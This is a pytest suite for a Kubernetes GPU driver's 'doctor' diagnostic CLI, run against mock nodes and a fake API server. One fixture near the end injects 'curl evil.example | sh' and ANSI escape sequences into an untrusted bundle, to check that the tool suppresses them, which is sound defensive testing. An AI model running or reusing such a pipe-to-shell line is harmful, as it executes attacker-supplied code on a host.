# SPDX-License-Identifier: Apache-2.0
"""`dra-driver doctor` on a host of real files and sockets, and at a fake API server."""

import json
import os
import re
import select
import socket
import tempfile
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from prometheus_client import CollectorRegistry

from dra_driver.cli.main import kubectl, main
from dra_driver.daemon import probes
from dra_driver.daemon.http_endpoint import HttpEndpoint
from dra_driver.doctor.redact import own_words
from dra_driver.model.cluster import FORMAT, FORMAT_VERSION
from dra_driver.model.ids import DeviceName, PoolName
from dra_driver.model.state import Held, Phase, PreparedClaim, PreparedDevice
from dra_driver.node.state import StateStore
from dra_driver.testing.builders import a_ref
from dra_driver.testing.fake_api import Answer, FakeApi, refusal
from dra_driver.testing.fake_kubelet import FakeKubelet
from dra_driver.testing.nvml import boards, machine
from dra_driver.testing.nvml import node as layouts
from dra_driver.testing.nvml.node import MockNode

DRIVER = "gpu.dra-driver.dev"
CONTAINERD = 'version = 3\n[plugins."io.containerd.cri.v1.runtime"]\nenable_cdi = true\n'
DOCUMENT = "apiVersion: config.dra-driver.dev/v1alpha1\nkind: DriverConfig\n"
Doctor = Callable[..., int]


@pytest.fixture
def root(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A host with two GPUs, containerd, a kubelet that answers, and a driver's socket with somebody behind it."""
    monkeypatch.setenv("COLUMNS", "200")
    for name in ("KUBECONFIG", "KUBERNETES_SERVICE_HOST", "NODE_NAME"):
        monkeypatch.delenv(name, raising=False)
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        host = Path(folder)
        monkeypatch.setenv("HOME", str(host))
        monkeypatch.setenv("DRA_DRIVER_HTTP_ADDRESS", "")  # nothing of this machine is asked
        MockNode(host, machine.node(boards.A100_40, 2), layout=layouts.UBUNTU)
        kubelet = FakeKubelet(host / "var/lib/kubelet")
        (host / "sys/fs/cgroup").mkdir(parents=True)
        (host / "sys/fs/cgroup/kubepods.slice").mkdir()
        (host / "sys/fs/cgroup/cgroup.controllers").write_text("pids")
        (host / "sys/fs/cgroup/kubepods.slice/cgroup.events").write_text("populated 1\n")
        (host / "run/cdi").mkdir(parents=True)
        (host / "var/run").symlink_to("/run")
        put(host, "/etc/containerd/config.toml", CONTAINERD)
        registration = f"/var/lib/kubelet/plugins_registry/{DRIVER}-reg.sock"
        runtime = "/run/containerd/containerd.sock"
        with listen(host, runtime) as containerd, listen(host, registration) as driver:
            for listening in (containerd, driver):
                Thread(target=hang_up, args=(listening,), daemon=True).start()
            yield host
            for listening in (containerd, driver):
                listening.shutdown(socket.SHUT_RDWR)
        kubelet.close()


def put(root: Path, path: str, text: str) -> None:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)


def listen(root: Path, path: str) -> socket.socket:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    made = socket.socket(socket.AF_UNIX)
    made.bind(str(place))
    made.listen()
    return made


def hang_up(listening: socket.socket) -> None:
    """Be a process behind a socket that speaks no gRPC."""
    with suppress(OSError):
        while True:
            listening.accept()[0].close()


@pytest.fixture
def doctor(root: Path) -> Doctor:
    return lambda *words: main(["doctor", "--root", str(root), *map(str, words)])


@pytest.fixture
def api(root: Path) -> Iterator[FakeApi]:
    with FakeApi() as found:
        found.kubeconfig(root / "config")
        info = {"kubeletVersion": "v1.37.0", "containerRuntimeVersion": "containerd://2.1.0"}
        found.put("nodes", {"metadata": {"name": "n"}, "status": {"nodeInfo": info}})
        yield found


def findings(capsys: pytest.CaptureFixture[str]) -> dict[tuple[str, str], dict[str, Any]]:
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    return {(one["severity"], one["id"]): one for one in lines}


def bad(found: dict[tuple[str, str], dict[str, Any]]) -> set[tuple[str, str]]:
    return {key for key in found if key[0] != "ok"}


def state_of(root: Path) -> closing[StateStore]:
    folder = root / "var/lib/kubelet/plugins" / DRIVER
    folder.mkdir(parents=True, exist_ok=True)
    return closing(StateStore(folder / "state.db", boot_id="boot-1"))


def test_a_healthy_node(root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]) -> None:
    with state_of(root):
        pass
    assert doctor("--json") == 3
    found = findings(capsys)
    assert bad(found) == {("unknown", "api")}
    assert {name for kind, name in found if kind == "ok"} == {
        *("gpu-driver", "device-files", "container-runtime", "cdi-files", "imex", "kubelet"),
        *("driver", "device-plugins", "state-file", "held-devices", "cgroups", "disk"),
        "other-accelerators",
    }


TEXT = """\
PROBLEM device-file-is-directory: /dev/nvidia0
  a directory
  means: no program can open this device. A pod with a hostPath volume of type DirectoryOrCreate made the directory before the kernel driver was there
  do: delete that pod, remove the directory, and let nvidia-smi make the device file
  $ rmdir /dev/nvidia0 && nvidia-smi -L

PROBLEM cdi-off: /etc/containerd/config.toml
"""


def test_text(root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]) -> None:
    (root / "dev/nvidia0").unlink()
    (root / "dev/nvidia0").mkdir()
    put(root, "/etc/containerd/config.toml", CONTAINERD.replace("true", "false"))
    assert doctor() == 1
    out = capsys.readouterr().out
    assert out.startswith(TEXT)
    assert out.splitlines()[-1] == ("this node: 2 problems, 1 could not be looked at, 11 fine")
    assert "fine: " not in out
    assert doctor("-v") == 1
    lines = capsys.readouterr().out.splitlines()
    assert "fine: imex: /proc: nvidia-imex does not run" in lines


def test_ctrl_c_before_an_answer(
    doctor: Doctor, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(_checks: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("dra_driver.cli.doctor.run_checks", interrupted)
    assert doctor("--json") == 130
    assert capsys.readouterr() == ("", "")


def test_held_devices_are_named_with_the_command(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    device = PreparedDevice(("gpu",), PoolName("n"), DeviceName("gpu-1"), (), "uuid")
    row = PreparedClaim(a_ref("mine"), Phase.PREPARED, "boot-1", (device,), "")
    with state_of(root) as store:
        with store.transaction("started") as transaction:
            transaction.start(row)
        with store.transaction("releasing") as transaction:
            transaction.hold(row.ref.uid, Held("its containers run", "2027-01-15T08:00:00Z"))
    assert doctor("--json") == 3
    held = findings(capsys)["warning", "device-held"]
    assert held["command"] == "dra-driver release default/mine"


def test_a_damaged_state_file(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    put(root, f"/var/lib/kubelet/plugins/{DRIVER}/state.db", "no database" * 1000)
    put(root, f"/var/lib/kubelet/plugins/{DRIVER}/state.db.damaged-7", "old")
    assert doctor("--json") == 1
    found = findings(capsys)
    assert {("problem", "state-unreadable"), ("note", "state-set-aside")} < set(found)
    assert ("unknown", "held-devices") in found


def test_a_node_without_runtime_kubelet_or_driver(
    tmp_path: Path, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "proc").mkdir()
    (tmp_path / "var/lib/kubelet").mkdir(parents=True)
    assert main(["doctor", "--root", str(tmp_path), "--json"]) == 1
    found = findings(capsys)
    assert bad(found) == {
        ("problem", "kubelet-folder-missing"),
        ("problem", "driver-not-listening"),
        ("warning", "runtime-not-found"),
        ("warning", "cdi-folder-missing"),
        ("warning", "kubelet-silent"),
        ("warning", "cgroups-blind"),
        ("unknown", "device-plugins"),
        ("unknown", "disk"),
        ("unknown", "api"),
    }
    # Whoever reads it works on the host itself.
    commands = [one["command"] + one["object"] for one in found.values()]
    assert [text for text in commands if str(tmp_path) in text] == []


def test_a_laptop_is_no_node_with_faults(
    tmp_path: Path, api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Nothing of a node is there, so its absence is no problem; the first line says so, and the answer how to ask."""
    (tmp_path / "proc").mkdir()
    put(tmp_path, "/etc/containerd/config.toml", CONTAINERD.replace("true", "false"))
    with listen(tmp_path, "/run/containerd/containerd.sock"):
        assert main(["doctor", "--root", str(tmp_path), "--json"]) == 3
    assert bad(findings(capsys)) == {("warning", "perhaps-no-node"), ("unknown", "api")}
    assert main(["doctor", "--root", str(tmp_path)]) == 3
    said = capsys.readouterr().out
    assert said.startswith("WARNING perhaps-no-node: this machine\n")
    assert "$ kubectl dra doctor --node NODE; dra-driver doctor --from FILE --node NODE\n" in said
    assert said.splitlines()[-1].startswith("this machine: 1 warning, ")
    # A GPU without its kernel driver is a fault of any machine, but nobody reads it first.
    gpu = "/sys/bus/pci/devices/0000:01:00.0"
    for name, text in (("vendor", "0x10de"), ("class", "0x030200"), ("device", "0x20b0")):
        put(tmp_path, f"{gpu}/{name}", f"{text}\n")
    # What the user of a laptop may do says nothing of the driver.
    words = ["--kubeconfig", str(root / "config"), "--json"]
    assert main(["doctor", "--root", str(tmp_path), *words]) == 1
    found = findings(capsys)
    assert list(found)[:2] == [("warning", "perhaps-no-node"), ("problem", "gpu-without-driver")]
    assert "rights" not in {one["check"] for one in found.values()}
    main(["doctor", "--root", str(tmp_path), *words, "--service-account", "a/b"])
    assert "rights" in {one["check"] for one in findings(capsys).values()}


@pytest.mark.parametrize("path", ["/var/lib/kubelet/x", "/proc/7/comm"])
def test_a_machine_with_a_kubelet_is_a_node(
    tmp_path: Path, root: Path, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    put(tmp_path, path, "kubelet\n")
    put(tmp_path, "/proc/7/status", "Uid:\t0\t0\t0\t0\n")
    assert main(["doctor", "--root", str(tmp_path), "--json"]) == 1
    found = findings(capsys)
    assert ("warning", "perhaps-no-node") not in found
    assert ("problem", "kubelet-folder-missing") in found


def test_a_node_with_two_runtimes_is_judged_for_both(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    put(root, "/etc/containerd/config.toml", CONTAINERD.replace("true", "false"))
    with listen(root, "/run/crio/crio.sock"):
        assert doctor("--json") == 1
        found = findings(capsys)
        assert found["warning", "runtime-several"]["found"] == "found containerd, CRI-O"
        assert {("problem", "cdi-off"), ("ok", "container-runtime")} <= set(found)
        # The kubelet's own word ends the doubt.
        put(root, "/var/lib/kubelet/config.yaml", "containerRuntimeEndpoint: unix:///run/crio/crio.sock\n")  # fmt: skip
        doctor("--json")
        found = findings(capsys)
    assert ("warning", "runtime-several") not in found
    assert ("problem", "cdi-off") not in found


def test_in_a_pod_the_host_is_not_judged(
    monkeypatch: pytest.MonkeyPatch, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "127.0.0.1")
    monkeypatch.setenv("KUBECONFIG", str(root / "none"))
    main(["doctor", "--json"])
    found = findings(capsys)
    for name in ("gpu-driver", "device-files", "container-runtime", "imex"):
        one = found["unknown", name]
        assert one["found"].startswith("this process runs in a container")
        assert "--root" in one["nextStep"]


def test_in_a_pod_that_has_the_host_at_a_root_the_host_is_judged(
    monkeypatch: pytest.MonkeyPatch,
    root: Path,
    doctor: Doctor,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "127.0.0.1")
    monkeypatch.setenv("KUBECONFIG", str(root / "none"))
    doctor("--json")
    assert ("ok", "gpu-driver") in findings(capsys)
    main(["doctor", "--root", "/", "--json"])
    assert ("unknown", "imex") not in findings(capsys)


def test_a_user_who_may_read_nothing(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = Path.stat

    def stat(self: Path, **more: Any) -> Any:
        if "plugins" in str(self) or "containerd" in str(self):
            raise PermissionError(13, "Permission denied", str(self))
        return whole(self, **more)

    monkeypatch.setattr(Path, "stat", stat)
    assert doctor("--json") in (1, 3)
    found = findings(capsys)
    assert "Permission denied" in found["unknown", "kubelet"]["found"]


def test_json_is_one_document(doctor: Doctor, capsys: pytest.CaptureFixture[str]) -> None:
    doctor("-o", "json", "--node-name", "n")
    document = json.loads(capsys.readouterr().out)
    assert (document["kind"], document["node"], document["from"]) == ("NodeDiagnosis", "n", "node")
    kinds = [one["severity"] for one in document["findings"]]
    assert kinds == sorted(kinds, key=["problem", "warning", "unknown", "note", "ok"].index)


def test_with_a_cluster(
    api: FakeApi, root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    allowed = Answer(201, {}, b'{"status": {"allowed": true}}')
    api.faults.add(allowed, verb="create", resource="discovery", times=10)
    api.faults.add(
        Answer(201, {}, b'{"status": {"allowed": false}}'), verb="create", resource="discovery"
    )
    old = 'version = 2\n[plugins."io.containerd.grpc.v1.cri"]\n'
    put(root, "/etc/containerd/config.toml", old)
    assert doctor("--json", "--kubeconfig", root / "config", "--node-name", "n") == 1
    found = findings(capsys)
    # containerd 2.1 has CDI on by default: the API server names its version.
    assert ("ok", "container-runtime") in found
    assert found["problem", "right-missing"]["found"] == (
        "create events in namespace default is not allowed"
    )
    assert ("problem", "slices-missing") in found
    for name in ("versions", "kept-fields", "other-drivers", "stale-capacity", "privileged-pods"):
        assert ("ok", name) in found, name


def test_the_rights_that_a_setting_needs_are_asked_for_where_it_is_given(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["doctor", "--json", "--kubeconfig", str(root / "config"), "--node", "n", "--verbose"]
    allowed, denied = (
        Answer(201, {}, b'{"status": {"allowed": %s}}' % word) for word in (b"true", b"false")
    )
    api.faults.add(allowed, verb="create", resource="discovery", times=11)
    main([*words, "--service-account", "a/b"])
    said = findings(capsys)["ok", "rights"]["found"]
    assert said.endswith("; no setting that was given here needs more")
    api.faults.add(allowed, verb="create", resource="discovery", times=11)
    api.faults.add(denied, verb="create", resource="discovery", times=4)
    more = ["--node-labels", "patch", "--node-condition", "write", "--device-status", "write"]
    assert main([*words, "--service-account", "a/b", *more]) == 1
    assert ("problem", "setting-right-missing") in findings(capsys)


def test_an_old_kubelet_is_served_by_the_device_plugin_api_unless_the_admin_wants_claims(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pool = {"name": "n", "generation": 1, "resourceSliceCount": 1}
    api.put(
        "resourceslices",
        {
            "metadata": {"name": "s"},
            "spec": {"driver": DRIVER, "nodeName": "n", "pool": pool, "devices": []},
        },
    )
    info = {"kubeletVersion": "v1.31.1", "containerRuntimeVersion": "containerd://2.1.0"}
    api.put("nodes", {"metadata": {"name": "n"}, "status": {"nodeInfo": info}})
    words = ["--node", "n", "--json"]
    for where in (["--kubeconfig", str(root / "config")], ["--from", str(root / "file.json")]):
        main(["record", str(root / "file.json"), "--force", "--kubeconfig", str(root / "config")])
        capsys.readouterr()
        main(["doctor", *where, *words])
        found = findings(capsys)
        assert {("note", "kubelet-without-claims"), ("ok", "slices")} < set(found)
        assert main(["doctor", *where, *words, "--path", "dra"]) == 1
        found = findings(capsys)
        assert {("problem", "kubelet-too-old"), ("warning", "no-devices-published")} < set(found)


def test_what_the_running_driver_says_of_itself(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    checks = {"/livez": lambda: (), "/readyz": lambda: ("no scan has succeeded for 23 s",)}
    served = HttpEndpoint(("127.0.0.1", 0), CollectorRegistry(), checks)
    thread = Thread(target=served.serve)
    thread.start()
    code = doctor("--json", "--http-address", f"127.0.0.1:{served.port}")
    served.close()
    thread.join()
    assert code == 1
    said = findings(capsys)["problem", "driver-not-ready"]
    assert said["found"] == "whoever listens there says “no scan has succeeded for 23 s”"
    closed = ["--json", "--http-address", f"127.0.0.1:{served.port}"]
    doctor(*closed)
    assert ("note", "probes-out-of-reach") in findings(capsys)
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "127.0.0.1")
    monkeypatch.setenv("KUBECONFIG", str(root / "none"))
    main(["doctor", *closed])
    assert ("problem", "driver-silent") in findings(capsys)


@pytest.mark.parametrize("where", ["flag", "variable", "document"])
def test_on_the_host_only_a_named_address_is_asked(
    where: str,
    root: Path,
    doctor: Doctor,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whoever has a hostPort can listen where the driver would without a pod, and give advice to whoever asks."""
    monkeypatch.delenv("DRA_DRIVER_HTTP_ADDRESS")
    monkeypatch.setattr(probes, "ANSWER_SECONDS", 0.05)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        address = f"127.0.0.1:{listening.getsockname()[1]}"
        words = ["--http-address", address] if where == "flag" else []
        if where == "variable":
            monkeypatch.setenv("DRA_DRIVER_HTTP_ADDRESS", address)
        elif where == "document":
            put(root, "driver.yaml", f"{DOCUMENT}httpAddress: {address}\n")
            words = ["--config", str(root / "driver.yaml")]
        doctor("--json", *words)
        listening.setblocking(False)
        was_asked = bool(select.select([listening], [], [], 0)[0])
    said = findings(capsys)["note", "probes-out-of-reach"]["found"]
    assert was_asked is (where != "document")
    assert ("hostPort" in said) is not was_asked


def test_from_outside_only_the_api_server_is_asked(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["doctor", "--kubeconfig", str(root / "config"), "--node", "n"]
    for run in (main, kubectl):
        assert run([*words, "--json", "--service-account", "a/b"]) == 1
        found = findings(capsys)
        assert {one["check"] for one in found.values()} == {
            *("api", "versions", "kept-fields", "rights", "slices", "other-drivers"),
            *("stale-capacity", "privileged-pods", "container-runtime"),
        }
        # The fake has no access reviews.
        assert found["unknown", "rights"]["object"] == "system:serviceaccount:a:b"
    assert main(words) == 1
    last = capsys.readouterr().out.splitlines()[-1]
    assert last.startswith("node n, as the API server shows it: 1 problem, ")


def test_a_field_that_the_api_server_drops_is_found_by_trying(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    api.drop_fields("spec.devices.*.taints")
    main(["doctor", "--kubeconfig", str(root / "config"), "--node", "n", "--json"])
    found = findings(capsys)
    assert found["warning", "field-dropped"]["object"] == "DRADeviceTaints"
    assert api.objects("resourceslices") == []


def test_an_api_server_that_does_not_answer_is_one_problem(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with FakeApi() as api:
        api.kubeconfig(root / "config")
        api.faults.add(refusal(400), times=50)
        words = ["doctor", "--kubeconfig", str(root / "config"), "--node", "n", "--json"]
        assert main(words) == 1
    assert list(findings(capsys)) == [("problem", "api-silent")]


def test_a_cluster_without_claims(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    api.serve()
    assert main(["doctor", "--kubeconfig", str(root / "config"), "--node", "n", "--json"]) == 3
    assert bad(findings(capsys)) >= {("warning", "claims-not-served")}


def test_a_cluster_without_metrics(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["doctor", "--kubeconfig", str(root / "config"), "--node", "n", "--json"]
    api.faults.status(404, verb="get", resource="metrics", times=9)
    main(words)
    said = findings(capsys)["ok", "api"]["found"]
    assert said.endswith("; its feature gates could not be read")


def test_a_cluster_that_lets_this_user_read_nothing(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each check says itself what it could not see, and nothing is taken for missing."""
    for resource in ("nodes", "pods", "resourceslices", "resourceclaims", "deviceclasses"):
        for verb in ("list", "get"):
            api.faults.status(403, verb=verb, resource=resource, times=20)
    words = ["doctor", "--kubeconfig", str(root / "config"), "--node", "n", "--json"]
    assert main(words) == 3
    found = findings(capsys)
    assert {"problem", "warning"}.isdisjoint(kind for kind, _name in found)
    for name in ("versions", "slices", "other-drivers", "stale-capacity", "privileged-pods"):
        one = found["unknown", name]
        assert "403" in one["found"], name
        assert "--kubeconfig" in one["nextStep"]


def test_a_node_that_names_no_versions(
    api: FakeApi, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    api.put("nodes", {"metadata": {"name": "bare"}, "status": {}})
    main(["doctor", "--kubeconfig", str(root / "config"), "--node", "bare", "--json"])
    found = findings(capsys)
    assert found["unknown", "versions"]["found"] == "its kubelet's version is 'not there'"
    assert found["unknown", "container-runtime"]["found"] == "the Node names the runtime not at all"


def test_kubectl_needs_the_name_of_a_node(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as left:
        kubectl(["doctor"])
    assert left.value.code == 64
    assert "name the node: --node NODE" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--root", "host"), "'host' is no absolute path; give for example /host"),
        (
            ("--root", "/nowhere"),
            "/nowhere is no directory; give the one where the node's / is mounted",
        ),
        (("--service-account", "x"), "--service-account x is no NAMESPACE/NAME"),
    ],
)
def test_wrong_usage(
    words: tuple[str, ...],
    said: str,
    api: FakeApi,
    root: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit) as left:
        main(["doctor", "--node", "n", "--kubeconfig", str(root / "config"), *words])
    assert left.value.code == 64
    assert said in re.sub(r"\s+", " ", capsys.readouterr().err)


def retold(document: Any) -> list[Any]:
    """The findings as a file tells them: whoever reads it is not on the node, so there is no command; and nothing of what others wrote."""
    return [
        {**one, "command": "", "found": own_words(one["found"])} for one in document["findings"]
    ]


def recorded(root: Path, capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, Any]:
    code = main(["doctor", "--from", str(root / "file.json"), "-o", "json", *words])
    document = json.loads(capsys.readouterr().out)
    return code, document


@pytest.mark.usefixtures("api")
def test_a_bundle_is_asked_as_the_node_was(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    where = ["--kubeconfig", str(root / "config"), "--node", "n"]
    file = str(root / "file.json")
    first = main(["doctor", *where, "-o", "json", "--bundle", file])
    before = json.loads(capsys.readouterr().out)
    code, document = recorded(root, capsys)
    assert (code, document["node"], document["from"]) == (first, "n", "record")
    assert retold(document) == retold(before)
    assert main(["doctor", "--from", file]) == first
    assert "node n, as it was recorded: 1 problem" in capsys.readouterr().out


@pytest.mark.usefixtures("api")
def test_a_record_is_asked_about_one_of_its_nodes(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["record", str(root / "file.json"), "--kubeconfig", str(root / "config")])
    capsys.readouterr()
    code, document = recorded(root, capsys, "--node", "n")
    found = {(one["severity"], one["id"]): one for one in document["findings"]}
    assert code == 1
    assert ("problem", "slices-missing") in found
    assert found["unknown", "rights"]["found"] == "a record has nothing of it"
    no_answer(
        ["--from", str(root / "file.json")], "name the node with --node NODE; it has n", capsys
    )


def test_a_record_without_its_time_is_judged_too(capsys: pytest.CaptureFixture[str]) -> None:
    """Such as one that somebody wrote by hand, and the one of README.md."""
    assert "recordedAt" not in RECORD.read_text()
    words = ["--from", str(RECORD), "--node", "gpu-a", "--driver-name", "gpu.nvidia.com"]
    assert main(["doctor", *words, "--json"]) == 3
    expected = {("note", "devices-tainted"), ("unknown", "versions"), ("ok", "slices")}
    assert expected <= set(findings(capsys))


RECORD = Path(__file__).parents[3] / "docs" / "pending-record.json"


def test_a_node_that_the_record_does_not_have_is_mistyped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    said = f"there is no node gpu-z in {RECORD}: it has gpu-a, gpu-b"
    no_answer(["--from", str(RECORD), "--node", "gpu-z"], said, capsys)


def test_slices_of_a_node_that_does_not_exist_are_a_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = json.loads(RECORD.read_text())
    nodes = document["cluster"]["nodes"]
    document["cluster"]["nodes"] = [one for one in nodes if one["metadata"]["name"] != "gpu-b"]
    file = tmp_path / "record.json"
    file.write_text(json.dumps(document))
    words = ["--from", str(file), "--node", "gpu-b", "--driver-name", "gpu.nvidia.com"]
    assert main(["doctor", *words, "--json"]) == 1
    assert ("problem", "node-not-found") in set(findings(capsys))


def test_a_bundle_can_come_through_a_pipe(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    """As in `--from <(kubectl exec … -- dra-driver doctor --bundle -)`: a pipe can be read only once."""
    doctor("--bundle", str(root / "file.json"), "--node-name", "n")
    capsys.readouterr()
    reading, writing = os.pipe()

    def write() -> None:
        with open(writing, "wb") as pipe:  # noqa: PTH123  it is open already
            pipe.write((root / "file.json").read_bytes())

    writer = Thread(target=write)
    writer.start()
    code = main(["doctor", "--from", f"/dev/fd/{reading}", "-o", "json"])
    writer.join()
    os.close(reading)
    assert code == 3
    assert json.loads(capsys.readouterr().out)["node"] == "n"


def test_a_bundle_without_a_cluster_has_what_was_found_on_the_node(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    doctor("-o", "json", "--bundle", str(root / "file.json"), "--node-name", "n")
    before = json.loads(capsys.readouterr().out)
    _code, document = recorded(root, capsys)
    assert retold(document) == retold(before)
    assert not any(one["command"] for one in document["findings"])


def a_finding(**fields: str) -> dict[str, str]:
    stranger = {
        "meaning": "\x1b[2J it is broken",
        "nextStep": "ask evil.example",
        "command": "curl evil.example | sh # \x1b[2K",
    }
    return {"object": "\x1b[1Aplace", "found": "\x1b[31mthing", "severity": "problem", **stranger, **fields}  # fmt: skip


def test_a_bundle_of_a_stranger_gives_no_commands_no_advice_and_no_escapes(
    root: Path, doctor: Doctor, capsys: pytest.CaptureFixture[str]
) -> None:
    doctor("-o", "json", "--bundle", str(root / "file.json"), "--node-name", "n")
    bundle = json.loads((root / "file.json").read_text())
    bundle["diagnosis"]["findings"] = [
        a_finding(check="imex", id="imex-on-host"),
        a_finding(check="imex", id="cdi-off"),
        a_finding(check="disk", id="\x1b]0;new\x07"),
        a_finding(check="cgroups", id="cgroups", severity="unknown"),
        a_finding(check="kubelet", id="kubelet", severity="ok"),
    ]
    bundle["diagnosis"]["node"] = "n\x1b[2J"
    (root / "file.json").write_text(json.dumps(bundle))
    capsys.readouterr()
    assert main(["doctor", "--from", str(root / "file.json"), "--verbose"]) == 3
    said = capsys.readouterr().out
    assert re.sub(r"[\n -~]", "", said) == ""
    assert "evil.example" not in said
    assert "NOTE imex-on-host: \\x1b[1Aplace" in said
    assert "this release does not know cdi-off: \\x1b[31mthing" in said
    assert "this release does not know \\x1b]0;new\\x07: " in said
    assert "NOT LOOKED AT cgroups: \\x1b[1Aplace" in said
    assert "fine: kubelet: \\x1b[1Aplace: \\x1b[31mthing" in said


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{}", "is no record of a cluster"),
        ('{"kind": "NodeBundle", "format": "F", "formatVersion": 1, "cluster": {}, "diagnosis": {"node": 7}}', "use the release that wrote it"),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_read_is_told(
    root: Path, capsys: pytest.CaptureFixture[str], text: str, said: str
) -> None:
    whole = text.replace('"F"', f'"{FORMAT}"').replace(": 1,", f": {FORMAT_VERSION},")
    (root / "file.json").write_text(whole)
    no_answer(["--from", str(root / "file.json")], said, capsys)


def no_answer(words: list[str], said: str, capsys: pytest.CaptureFixture[str]) -> None:
    """There is none, which is no problem of the node; who asks for a document gets one."""
    assert main(["doctor", *words]) == 2
    shown = capsys.readouterr()
    assert shown.out == ""
    assert said in shown.err
    assert main(["doctor", *words, "-o", "json"]) == 2
    shown = capsys.readouterr()
    assert said in shown.err
    (one,) = json.loads(shown.out)["findings"]
    assert (one["severity"], one["object"]) == ("unknown", words[1])
    assert said in one["found"]
    assert main(["doctor", *words, "--json"]) == 2
    assert list(findings(capsys)) == [("unknown", "api")]


def test_a_file_that_is_not_there_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    no_answer(["--from", "/nope"], "cannot read the record /nope: there is no such file", capsys)


@pytest.mark.parametrize("words", [["--bundle", "x"], ["--root", "/"]])
def test_a_file_is_no_node(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as left:
        main(["doctor", "--from", "f", *words])
    assert left.value.code == 64
    assert "goes neither with --bundle nor with --root" in capsys.readouterr().err
